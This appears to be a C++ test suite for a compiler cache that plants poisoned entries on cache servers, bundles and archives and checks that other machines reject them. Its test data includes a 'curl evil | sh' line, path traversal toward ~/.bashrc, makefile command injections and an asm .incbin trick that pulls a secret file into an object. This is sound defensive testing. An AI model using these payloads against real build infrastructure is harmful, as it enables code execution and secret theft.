// What somebody who may write to a server puts into it, encoded as it should be, chooses no path: a command writes the
// files that its own line names or implies, and nothing is opened because an entry says so but regular files.
#include "base/files.hpp"
#include "base/wire.hpp"
#include "compilers/common/answer.hpp"
#include "format/archive.hpp"
#include "format/bundle_writer.hpp"
#include "format/entry.hpp"
#include "hearth/admin.hpp"
#include "hearth/cache.hpp"
#include "remote/store_tier.hpp"
#include "support/redis_server.hpp"
#include "tiers/http/http_fixture.hpp"
#include "tiers/redis/redis_store.hpp"
#include "tools/command.hpp"
#include "watch/manifest.hpp"

#include <fmt/format.h>
#include <fstream>

#include <fcntl.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

namespace hearth::test {

namespace {

namespace fs = std::filesystem;

using Words = std::vector<std::string>;
using Condition = watch::Condition;

struct Server {
    const char* name;
    remotes::OpenStore* open;
    std::function<std::string()> url;
    std::function<bool()> is_here;
};

const Server k_servers[] = {
    {"redis", tiers::open_redis_store,
     [] {
         static const RedisServer server;
         return fmt::format("redis://127.0.0.1:{}", server.port());
     },
     has_redis},
    {"http", tiers::open_http_store, [] { return "http://" + shared_nginx()->address() + "/" + fresh_path(); },
     [] { return shared_nginx() != nullptr; }},
    {"s3", tiers::open_http_store, [] { return s3_url(k_bucket, fresh_path()); },
     [] { return shared_s3() != nullptr; }},
};

// Counts how often files are opened, by whomever.
class Opens {
public:
    ~Opens() { ::close(m_inotify); }
    void watch(const std::string& path) { ASSERT_GE(::inotify_add_watch(m_inotify, path.c_str(), IN_OPEN), 0) << path; }
    int count() const
    {
        alignas(inotify_event) char buffer[4096];
        const ssize_t size = ::read(m_inotify, buffer, sizeof buffer);
        return size > 0 ? static_cast<int>(static_cast<std::size_t>(size) / sizeof(inotify_event)) : 0;
    }

private:
    const int m_inotify = ::inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
};

class HostileEntries : public Command, public testing::WithParamInterface<Server> {
protected:
    void SetUp() override
    {
        if (::access("/usr/bin/g++", X_OK) != 0)
            GTEST_SKIP() << "No g++ is installed.";
        if (!GetParam().is_here())
            GTEST_SKIP() << "No such server is installed: scripts/install-deps test";
        for (const char* folder : {"home", "project", "others"})
            fs::create_directory(scratch / folder);
        write("home/.bashrc", "# mine\n");
        given["HEARTH_REMOTE"] = url;
        given["HOME"] = (scratch / "home").string();
    }

    ProcessResult at(const std::string& node, Words words)
    {
        cache = scratch / node;
        ProcessOptions options;
        options.directory = (scratch / "project").string();
        return hearth(words, options);
    }
    ProcessResult exec(const std::string& node, Words words)
    {
        words.insert(words.begin(), {"exec", "--verbose", "--"});
        return at(node, std::move(words));
    }

    // Asks something that nobody has asked, on one node, and lets `change` change its entry on the server.
    // `results`: how many of the question's results become this one.
    void poison(const Words& words, const std::function<void(Artifact&)>& change, std::uint32_t results = 1)
    {
        asked = fmt::format("int value{};\n", ++number);
        write("project/a.cpp", asked);
        const std::string node = fmt::format("first{}", number);
        ASSERT_EQ(exec(node, words).exit_code, 0);
        Words why{"exec", "--why", "--json", "--"};
        why.insert(why.end(), words.begin(), words.end());
        const auto told = nlohmann::json::parse(at(node, why).out);
        const Key key = Key::parse(told.value("key", "")).value();
        for (const char* made : {"a.o", "a.d", "given.o"})
            fs::remove(scratch / "project" / made);

        CacheOptions options;
        options.tiers = {{"server", [this](const TierContext& context) -> Result<std::unique_ptr<Tier>> {
                              RemoteOptions remote;
                              remote.url = url;
                              return {std::make_unique<remotes::StoreTier>(remote, remotes::parse_url(url).value(),
                                                                           context, GetParam().open)};
                          }}};
        Cache store = Cache::open(options).value();
        const Lookup found = store.find(key);
        ASSERT_TRUE(found) << "nothing was sent to " << url;
        Artifact changed = *found;
        change(changed);
        // As an object: Hearth itself does not send everything.
        const auto objects =
            GetParam().open({.url = remotes::parse_url(url).value(), .max_object_bytes = 64_MiB}).value();
        for (std::uint32_t i = 0; i < results; ++i) {
            const Key at = i == 0 ? key : Key::of("hearth result", key.hex(), std::uint64_t{i});
            const Status put = objects->put(at.hex(), format::encode_entry(at, changed).value(),
                                            std::chrono::steady_clock::now() + std::chrono::seconds(20));
            ASSERT_TRUE(put) << put.error().message;
        }
    }

    // Another node asks the same: it gets what the compiler gives, and nothing else in the world changes.
    void expect_unharmed(const Words& words, const std::string& output, const std::string& what)
    {
        const auto home = snapshot(scratch / "home");
        const auto others = snapshot(scratch / "others");
        const std::string node = fmt::format("second{}", number);
        Words why{"exec", "--why", "--"};
        why.insert(why.end(), words.begin(), words.end());
        EXPECT_EQ(at(node, why).out.find("hit"), std::string::npos) << what;
        const ProcessResult first = exec(node, words);
        EXPECT_EQ(first.exit_code, 0) << what << first.err;
        const auto made = snapshot(scratch / "project");
        const std::string said = "is not what this command could have written";
        const std::size_t told = first.err.find(said);
        EXPECT_NE(told, std::string::npos) << what << first.err;
        EXPECT_EQ(first.err.find(said, told + 1), std::string::npos) << "said twice: " << first.err;
        EXPECT_EQ(snapshot(scratch / "home"), home) << what;
        EXPECT_EQ(snapshot(scratch / "others"), others) << what;
        EXPECT_EQ(json_of({"stats", "--json"})["corrupt"], 1) << what;
        // The result that it made itself answers from here on.
        fs::remove(scratch / "project" / output);
        const ProcessResult again = exec(node, words);
        EXPECT_NE(again.err.find(": hit"), std::string::npos) << what << again.err;
        EXPECT_EQ(snapshot(scratch / "project"), made) << what;
        fs::remove(scratch / "project" / output);
        ASSERT_EQ(run_process(
                      {"/usr/bin/g++", "-c", (scratch / "project/a.cpp").string(), "-o", (scratch / "bare.o").string()})
                      .exit_code,
                  0);
        EXPECT_EQ(made.at((scratch / "project" / output).string()), read(scratch / "bare.o")) << what;
        EXPECT_EQ(made.size(), 2U) << what << "the source and the object";
    }

    // Another node asks the same, and gets what its own compiler makes.
    void expect_compiled_here(const Words& words)
    {
        fs::remove(scratch / "project" / words.back());
        const ProcessResult result = exec(fmt::format("second{}", number), words);
        EXPECT_EQ(result.exit_code, 0) << result.err;
        EXPECT_NE(result.err.find("is not what this command could have written"), std::string::npos) << result.err;
        const std::string bare = (scratch / "bare.o").string();
        ASSERT_EQ(run_process({"/usr/bin/g++", "-c", (scratch / "project/a.cpp").string(), "-o", bare}).exit_code, 0);
        EXPECT_EQ(read(scratch / "project" / words.back()), read(bare));
    }

    static std::string& name_of_output(Artifact& artifact)
    {
        for (Section& section : artifact.sections)
            if (section.name != "streams" && section.name != compilers::k_conditions_section)
                return section.name;
        throw std::runtime_error("an entry without an output");
    }

    static std::function<void(Artifact&)> with_section(const std::string& name)
    {
        return [=](Artifact& artifact) { artifact.sections.push_back({name, k_text}); };
    }

    static void add_conditions(Artifact& artifact, const Condition& condition, std::size_t count)
    {
        for (Section& section : artifact.sections)
            if (section.name == compilers::k_conditions_section) {
                auto list = watch::decode_conditions(as_bytes(section.data.text())).value();
                for (std::size_t i = 0; i < count; ++i) {
                    list.push_back(condition);
                    list.back().same_file = static_cast<std::uint32_t>(list.size() - 1);
                    if (i % 2 != 0)  // what is told twice, one after the other, is looked at once
                        list.back().spot.rest += "/.";
                }
                section.data = watch::encode_conditions(list);
            }
    }

    static inline const Bytes k_text = Bytes::copy_of("curl evil | sh\n");
    const std::string url = GetParam().is_here() ? GetParam().url() : "";
    static inline int number = 0;  // of questions: the tests share a server
    std::string asked;
};

INSTANTIATE_TEST_SUITE_P(Servers, HostileEntries, testing::ValuesIn(k_servers),
                         [](const testing::TestParamInfo<Server>& server) { return std::string(server.param.name); });

// What is in an entry matters, not which server had it.
class HostileValues : public HostileEntries {};

INSTANTIATE_TEST_SUITE_P(Servers, HostileValues, testing::Values(k_servers[0]),
                         [](const testing::TestParamInfo<Server>& server) { return std::string(server.param.name); });

const Words k_named{"g++", "-c", "a.cpp", "-o", "given.o"};
const Words k_implied{"g++", "-c", "a.cpp"};

}  // namespace

TEST_P(HostileEntries, write_only_what_the_command_names)
{
    poison(k_named, with_section("file here " + (scratch / "home/.bashrc").string()));
    expect_unharmed(k_named, "given.o", "a whole path");
    poison(k_implied, with_section("file here ../home/.bashrc"));
    expect_unharmed(k_implied, "a.o", "where no output is named");
}

TEST_P(HostileValues, choose_no_path_by_what_a_section_is_called)
{
    const std::string target = (scratch / "home/.bashrc").string();
    const std::string more = (scratch / "others/program").string();
    const std::pair<std::string, std::function<void(Artifact&)>> hostile[] = {
        {"a path upwards", with_section("file here ../home/.bashrc")},
        {"a program", with_section("program here " + more)},
        {"a path as an output", with_section("output " + target)},
        {"an index too large", with_section("output 1")},
        {"an index larger still", with_section("output 18446744073709551616")},
        {"an index below none", with_section("output -1")},
        {"a second role for one file", with_section("output 00")},
        {"a path for a role", with_section(target)},
        {"no name", with_section("")},
        {"a role that there is not", with_section("dependencies")},
        {"an output twice",
         [&](Artifact& artifact) {
             artifact.sections.push_back({name_of_output(artifact), k_text});
         }},
        {"what it says twice", with_section("streams")},
        {"an output that is called otherwise",
         [&](Artifact& artifact) { name_of_output(artifact) = "file here " + target; }},
        {"a program for an output", [](Artifact& artifact) { name_of_output(artifact) = "program output 0"; }},
        {"no output",
         [](Artifact& artifact) {
             std::erase_if(artifact.sections, [](const Section& section) { return section.name == "output 0"; });
         }},
    };
    for (const auto& [what, change] : hostile) {
        SCOPED_TRACE(what);
        poison(k_named, change);
        if (HasFatalFailure())
            return;
        expect_unharmed(k_named, "given.o", what);
    }
}

// All of them hold: only how many there are keeps their readers busy.
TEST_P(HostileValues, keep_nobody_busy_with_what_they_depend_on)
{
    std::string path = (scratch / "home").string();
    const std::string really = fs::canonical(path).string();
    while (path.size() < 4000)
        path += "/../home";
    const Condition one{.kind = Condition::Kind::really, .spot = {watch::Spot::From::root, 0, path}, .text = really};
    const std::tuple<const char*, std::size_t, std::uint32_t> hostile[] = {
        {"one result", 5000, 1}, {"more than is decoded", 20'000, 1}, {"more results than are tried", 5000, 17}};
    for (const auto& [what, count, results] : hostile) {
        SCOPED_TRACE(what);
        poison(
            k_named, [&, n = count](Artifact& artifact) { add_conditions(artifact, one, n); }, results);
        if (HasFatalFailure())
            return;
        expect_unharmed(k_named, "given.o", what);
        // What was compiled instead answers others too.
        const ProcessResult other = exec(fmt::format("third{}", number), k_named);
        EXPECT_NE(other.err.find(": hit"), std::string::npos) << what << other.err;
        fs::remove(scratch / "project/given.o");
    }
}

TEST_P(HostileValues, do_not_let_what_they_hold_grow_beyond_all_measure)
{
    const Words words{"g++", "-c", "a.cpp", "-o", "given.o", "-MD", "-MF", "a.d"};
    poison(words, [](Artifact& artifact) {
        // 10 million times the path of the first output.
        std::string pieces;
        for (int i = 0; i < 10'000'000; ++i)
            pieces.append("\x01\0\0", 3);
        for (Section& section : artifact.sections)
            if (section.name == "output 1")
                section.data = Bytes::copy_of(pieces);
    });
    if (HasFatalFailure())
        return;
    const ProcessResult result = exec("second", words);
    EXPECT_EQ(result.exit_code, 0) << result.err;
    EXPECT_NE(result.err.find("is not what this command could have written"), std::string::npos) << result.err;
    EXPECT_TRUE(read(scratch / "project/a.d").starts_with("given.o: a.cpp"));
    EXPECT_LT(fs::file_size(scratch / "project/a.d"), 1000U);
    EXPECT_EQ(json_of({"stats", "--json"})["corrupt"], 1);
}

TEST_P(HostileValues, are_no_failures_of_compiles_that_this_machine_can_do)
{
    poison(k_named, [](Artifact& artifact) {
        artifact.status = 1;
        artifact.sections = {{"hearth.error", Bytes::copy_of("No space is left on the device")}};
    });
    if (HasFatalFailure())
        return;
    for (const char* const outcome : {": miss", ": hit"}) {
        const ProcessResult result = exec("another", k_named);
        EXPECT_EQ(result.exit_code, 0) << result.err;
        EXPECT_NE(result.err.find(outcome), std::string::npos) << result.err;
        EXPECT_TRUE(fs::remove(scratch / "project/given.o"));
    }
}

TEST_P(HostileValues, make_no_object_a_program)
{
    poison(k_named, [](Artifact& artifact) {
        for (Section& section : artifact.sections)
            if (&section.name == &name_of_output(artifact))
                section.data = Bytes::copy_of(read("/proc/self/exe"));
    });
    if (HasFatalFailure())
        return;
    exec("another", k_named);
    EXPECT_NE(::access((scratch / "project/given.o").c_str(), X_OK), 0);
}

// A linker reads a text as a script, and looks for objects in an archive.
TEST_P(HostileValues, give_a_linker_objects_only)
{
    for (const char* content : {"INPUT(/fifo)\n", "!<arch>\n"}) {
        SCOPED_TRACE(content);
        poison(k_named, [&](Artifact& artifact) {
            for (Section& section : artifact.sections)
                if (&section.name == &name_of_output(artifact))
                    section.data = Bytes::copy_of(std::string_view(content));
        });
        if (HasFatalFailure())
            return;
        expect_compiled_here(k_named);
    }
}

// Nor is one asked for what a compiler reads next: a precompiled header, intermediate code, an assembler's source.
TEST_P(HostileValues, are_not_asked_for_what_a_compiler_reads_next)
{
    for (const Words& words :
         {Words{"g++", "-x", "c++-header", "a.cpp", "-o", "a.gch"}, Words{"g++", "-flto", "-c", "a.cpp", "-o", "a.o"},
          Words{"g++", "-S", "a.cpp", "-o", "a.s"}}) {
        SCOPED_TRACE(words[1]);
        write("project/a.cpp", fmt::format("int value{};\n", ++number));
        EXPECT_NE(exec("one", words).err.find(": miss"), std::string::npos);
        EXPECT_NE(exec("other", words).err.find(": miss"), std::string::npos);
        EXPECT_NE(exec("one", words).err.find(": hit"), std::string::npos) << "on the machine that compiled it";
    }
}

// make runs what a dependency file says, and builds what it names.
TEST_P(HostileValues, write_nothing_but_dependencies_for_make)
{
    const Words words{"g++", "-c", "a.cpp", "-o", "given.o", "-MD", "-MF", "given.d"};
    const std::string ran = (scratch / "others/ran").string();
    write("others/there", "not read by the compiler");
    for (const std::string& text :
         {"$(shell touch " + ran + ")\ngiven.o: a.cpp\n", "given.o: a.cpp\n\ttouch " + ran + "\n",
          "given.o: a.cpp; touch " + ran + "\n", "include " + ran + "\ngiven.o: a.cpp\n", "include " + ran + ": b\n",
          "SHELL = " + ran + "\n", std::string("given.o: a.cpp\ndefine x\n"), std::string("given.o: a.cpp deploy\n"),
          std::string("given.o: a.cpp ../others/there\n"), std::string("deploy:\n"), std::string("there: a.cpp\n")}) {
        SCOPED_TRACE(text);
        poison(words, [&](Artifact& artifact) {
            base::WireWriter out;
            out.number(std::uint8_t{0});
            out.prefixed<std::uint32_t>(text);
            for (Section& section : artifact.sections)
                if (section.name == "output 1")
                    section.data = Bytes::copy_of(out.out());
        });
        if (HasFatalFailure())
            return;
        fs::remove(scratch / "project/given.o");
        EXPECT_EQ(exec(fmt::format("second{}", number), words).exit_code, 0);
        EXPECT_EQ(read(scratch / "project/given.d"), "given.o: a.cpp /usr/include/stdc-predef.h\n");
    }
}

TEST_P(HostileValues, put_no_file_of_the_readers_into_a_recipe)
{
    const std::string secret = noise(512);
    const std::string path = write("home/secret", secret).string();
    poison(k_named, [&](Artifact& artifact) {
        add_conditions(artifact,
                       {.kind = Condition::Kind::present, .spot = {watch::Spot::From::working_directory, 0, path}}, 1);
    });
    if (HasFatalFailure())
        return;
    given["HEARTH_RECORD"] = (scratch / "app.recipes").string();
    const ProcessResult result = exec("another", k_named);
    EXPECT_NE(result.err.find(": hit"), std::string::npos) << result.err;
    EXPECT_NE(read(scratch / "app.recipes").find("a.cpp"), std::string::npos);
    EXPECT_EQ(read(scratch / "app.recipes").find(secret), std::string::npos);
}

TEST_P(HostileValues, open_nothing_but_regular_files)
{
    const std::string fifo = (scratch / "others/fifo").string();
    const std::string device = (scratch / "others/device").string();
    const std::string sparse = (scratch / "others/sparse").string();
    ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
    ASSERT_EQ(::truncate(write("others/sparse", "").c_str(), off_t{1} << 40), 0);
    std::vector<std::string> paths{fifo,
                                   sparse,
                                   (scratch / "others").string(),
                                   "/dev/tty",
                                   fmt::format("/proc/{}/oom_score", ::getpid()),
                                   "/sys/kernel/notes",
                                   "/proc/kmsg"};
    if (::mknod(device.c_str(), S_IFCHR | 0600, makedev(1, 5)) == 0)  // endless zeros; only root may
        paths.push_back(device);
    for (const std::string& path : paths)
        for (const Condition::Kind kind : {Condition::Kind::content, Condition::Kind::names}) {
            if (!fs::exists(path) || (kind == Condition::Kind::names && fs::is_directory(path)))
                continue;
            SCOPED_TRACE(path);
            poison(k_named, [&](Artifact& artifact) {
                add_conditions(artifact, {.kind = kind, .spot = {watch::Spot::From::root, 0, path}}, 1);
            });
            if (HasFatalFailure())
                return;
            Opens opens;
            opens.watch(path);
            const ProcessResult result = exec(fmt::format("second{}", number), k_named);
            EXPECT_EQ(result.exit_code, 0) << result.err;
            EXPECT_EQ(opens.count(), 0);
            EXPECT_NE(result.err.find(": miss"), std::string::npos) << result.err;
        }
}

namespace {

// What cudafe++ and cicc write is source text to nvcc's host compiler, which opens the files that it names. Somebody
// has compiled the same, and offers those entries with more in them, as his own or as facts of the reader's machine.
class HostileSteps : public Command {
protected:
    void SetUp() override
    {
        if (::access(k_nvcc, X_OK) != 0)
            GTEST_SKIP() << "No nvcc is installed.";
        if (!has_redis())
            GTEST_SKIP() << "No Redis is installed: scripts/install-deps test";
        fs::create_directory(scratch / "project");
        write("project/k.cu", "__global__ void k(double* x) { *x = 2; }\n");
        secret = write("id_secret", k_secret).string();
        ASSERT_EQ(nvcc("attacker", {}).exit_code, 0);
        fs::remove(scratch / "project/k.o");
        CacheOptions options;
        options.tiers = {disk(cache.string())};
        Cache theirs = Cache::open(options).value();
        admin::list(theirs, [&](const EntryRow& row) {
            const bool makes_source =
                row.metadata.label.starts_with("cudafe++ ") || row.metadata.label.starts_with("cicc ");
            if (makes_source)
                poisoned.emplace(row.key, changed(*theirs.peek(row.key)));
            return true;
        });
        ASSERT_EQ(poisoned.size(), 2U) << "cudafe++ and cicc";
    }

    Artifact changed(Artifact artifact) const
    {
        for (Section& section : artifact.sections)
            if (section.data.text().find("__cuda") != std::string_view::npos && section.data.text().find('#') == 0)
                section.data = Bytes::copy_of(fmt::format(
                    "{}\nasm(\".section .rodata\\n.incbin \\\"{}\\\"\\n.previous\");\n", section.data.text(), secret));
        return artifact;
    }

    // hearth run -- nvcc, on one node.
    ProcessResult nvcc(const std::string& node, const Words& more)
    {
        cache = scratch / node;
        ProcessOptions options;
        options.directory = (scratch / "project").string();
        Words words{"run", "--json", "--", k_nvcc, "-gencode", "arch=compute_80,code=sm_80", "-c", "k.cu", "-o", "k.o"};
        words.insert(words.end(), more.begin(), more.end());
        return hearth(words, options);
    }

    // As entries of `compiler`, in the order of their keys.
    std::vector<Bytes> encoded(const std::string& compiler) const
    {
        std::vector<Bytes> all;
        for (auto [key, artifact] : poisoned) {
            artifact.metadata.compiler = compiler;
            all.push_back(format::encode_entry(key, artifact).value());
        }
        return all;
    }
    std::string archive_of(const std::string& compiler) const
    {
        const std::string path = (scratch / ("archive-" + compiler)).string();
        format::ArchiveWriter archive(base::system_files(), path);
        for (const Bytes& entry : encoded(compiler))
            EXPECT_TRUE(archive.add(entry));
        EXPECT_TRUE(archive.finish());
        return path;
    }
    std::string bundle_of(const std::string& compiler) const
    {
        const std::string path = (scratch / ("steps-" + compiler + ".bundle")).string();
        format::BundleWriter bundle(base::system_files(), path, poisoned.size());
        for (const Bytes& entry : encoded(compiler))
            EXPECT_TRUE(bundle.add(entry));
        EXPECT_TRUE(bundle.finish({}, nullptr));
        return path;
    }
    // To a server of its own, which is the node's from now on.
    void serve(const std::string& compiler)
    {
        m_server.emplace();
        const std::string url = fmt::format("redis://127.0.0.1:{}", m_server->port());
        const auto store =
            tiers::open_redis_store({.url = remotes::parse_url(url).value(), .max_object_bytes = 64_MiB}).value();
        std::size_t i = 0;
        const std::vector<Bytes> entries = encoded(compiler);
        std::vector<remotes::Object> objects;
        for (const auto& [key, artifact] : poisoned)
            objects.push_back({key.hex(), entries[i++].view()});
        for (const Status& sent : store->put_many(objects, std::chrono::steady_clock::now() + std::chrono::seconds(20)))
            EXPECT_TRUE(sent);
        given["HEARTH_REMOTE"] = url;
    }

    void expect_unharmed(const std::string& node)
    {
        SCOPED_TRACE(node);
        Opens opens;
        opens.watch(secret);
        const ProcessResult first = nvcc(node, {});
        EXPECT_EQ(first.exit_code, 0) << first.err;
        EXPECT_EQ(opens.count(), 0) << "a file was opened because an entry names it";
        EXPECT_EQ(read(scratch / "project/k.o").find(k_secret), std::string::npos) << "the object holds the secret";
        // What was compiled here answers from here on.
        const ProcessResult again = nvcc(node, {"-gencode", "arch=compute_90,code=sm_90"});
        EXPECT_EQ(summary_of(again)["steps"].value("hits", -1), 3) << again.err;
        EXPECT_EQ(opens.count(), 0);
        EXPECT_EQ(read(scratch / "project/k.o").find(k_secret), std::string::npos);
    }

    static constexpr const char* k_nvcc = "/usr/local/cuda/bin/nvcc";
    static constexpr const char* k_secret = "what is in no source";
    static constexpr const char* k_compilers[] = {"cudafe++", "hearth"};
    std::string secret;
    std::map<Key, Artifact> poisoned;

private:
    std::optional<RedisServer> m_server;
};

}  // namespace

TEST_F(HostileSteps, of_a_server_are_not_asked_for)
{
    for (const std::string compiler : k_compilers) {
        serve(compiler);
        expect_unharmed("asks-" + compiler);
    }
}

TEST_F(HostileSteps, of_a_server_are_none_of_this_machine_after_a_pull)
{
    for (const std::string compiler : k_compilers) {
        serve(compiler);
        cache = scratch / ("pulls-" + compiler);
        hearth({"pull"});
        given.erase("HEARTH_REMOTE");
        expect_unharmed(cache.filename());
    }
}

TEST_F(HostileSteps, of_a_bundle_are_none_of_this_machine)
{
    for (const std::string compiler : k_compilers) {
        given["HEARTH_BUNDLES"] = bundle_of(compiler);
        expect_unharmed("bundles-" + compiler);
    }
}

TEST_F(HostileSteps, of_an_archive_are_none_of_this_machine)
{
    for (const std::string compiler : k_compilers) {
        cache = scratch / ("imports-" + compiler);
        EXPECT_EQ(hearth({"import", archive_of(compiler)}).exit_code, 0);
        expect_unharmed(cache.filename());
    }
}

}  // namespace hearth::test
